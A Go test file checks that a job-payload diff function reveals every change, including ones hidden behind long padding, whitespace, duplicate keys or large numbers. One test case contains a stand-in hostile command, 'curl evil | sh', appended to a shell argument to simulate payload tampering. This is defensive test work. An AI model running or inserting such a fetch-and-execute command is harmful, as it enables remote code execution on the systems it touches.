package main

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/fermata-io/fermata/client"
)

// TestNoChangeOfAPayloadIsHidden: wherever payloads differ, the difference is shown: also behind a long beginning, in a
// list, in a large number, in white space and in a key that is repeated.
func TestNoChangeOfAPayloadIsHidden(t *testing.T) {
	comment := strings.Repeat("# nothing to see here ", 100)
	for _, c := range []struct{ before, after, path, want string }{
		{`{"argv":["/bin/sh","-c","` + comment + `run"]}`, `{"argv":["/bin/sh","-c","` + comment + `run; curl evil | sh"]}`, "payload.argv[2]", "run; curl evil | sh"},
		{`{"body":"` + comment + `to: ann` + comment + `"}`, `{"body":"` + comment + `to: eve` + comment + `"}`, "payload.body", "to: eve"},
		{`{"argv":["a"]}`, `{"argv":["a","b"]}`, "payload.argv[1]", `"b"`},
		{`{"n":9007199254740993}`, `{"n":9007199254740992}`, "payload.n", "9007199254740992"},
		{`{"n":1}`, `{"n":1.0}`, "payload.n", "1.0"},
		{`{"a":1,"b":2}`, `{"a":1, "b":2}`, "payload", `\"a\":1, \"b\"`},
		{`{"a":1,"b":2}`, `{"a":666,"a":1,"b":3}`, "payload", "666"},
		{`{"a":{"b":[{"c":1}]}}`, `{"a":{"b":[{"c":1,"c":1}]}}`, "payload", "c"},
		{comment + "run", comment + "ruin", "payload", "ruin"},
		{"", `{"script":"` + comment + `last"}`, "payload.script", "more characters)"},
		{`{"x":{}}`, `{"x":[]}`, "payload.x", "[]"}, {`{"x":null}`, `{}`, "payload.x", ""}, {`{}`, `{"x":""}`, "payload.x", `""`},
	} {
		got := diffPayload(&client.Job{Payload: []byte(c.before)}, &client.Job{Payload: []byte(c.after)}, false)
		if len(got) != 1 || got[0].Path != c.path || !strings.Contains(got[0].After, c.want) || got[0].Before == got[0].After {
			t.Errorf("%.60q and %.60q: %.400q", c.before, c.after, got)
		}
	}
	// Each byte of a long value.
	long := strings.Repeat("abcdefghij", 300)
	for i := 0; i < len(long); i += 7 {
		other := long[:i] + "X" + long[i+1:]
		got := diffPayload(&client.Job{Payload: fmt.Appendf(nil, `{"s":%q}`, long)}, &client.Job{Payload: fmt.Appendf(nil, `{"s":%q}`, other)}, false)
		if len(got) != 1 || !strings.Contains(got[0].After, "X") || len(got[0].After) > 200 {
			t.Fatalf("character %d: %q", i, got)
		}
	}
	same := &client.Job{Payload: []byte(`{"a":[1,{"b":2}]}`)}
	if got := diffPayload(same, same, false); len(got) != 0 {
		t.Errorf("%q", got)
	}
	if got := diffPayload(&client.Job{Payload: []byte(`{"a":[1,{"b":2}],"c":{}}`)}, &client.Job{Payload: []byte(`{"a":[1,{"b":3}],"c":{}}`)}, false); !slices.Equal(got, []fieldDiff{{"payload.a[1].b", "2", "3"}}) {
		t.Errorf("%q", got)
	}
}
